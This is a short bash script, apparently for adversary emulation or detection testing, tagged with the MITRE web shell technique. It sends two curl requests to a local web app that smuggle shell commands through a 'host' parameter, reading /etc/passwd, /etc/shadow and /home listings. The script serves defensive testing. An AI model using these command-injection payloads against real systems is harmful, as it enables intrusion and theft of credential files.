#!/bin/bash
# technique: T1505.003 Server Software Component: Web Shell
# tactic: persistence
# user: alice
# needs: curl
# marker: ;cat /etc/passwd
# does: has the web application run commands through a parameter that it trusts
# harmless: the commands are queries

curl -s 'http://127.0.0.1:8080/diagnosis?host=localhost;cat%20/etc/passwd;id;uname%20-a' >/dev/null
curl -s 'http://127.0.0.1:8080/diagnosis?host=localhost;cat%20/etc/passwd;ls%20-la%20/home;cat%20/etc/shadow' >/dev/null
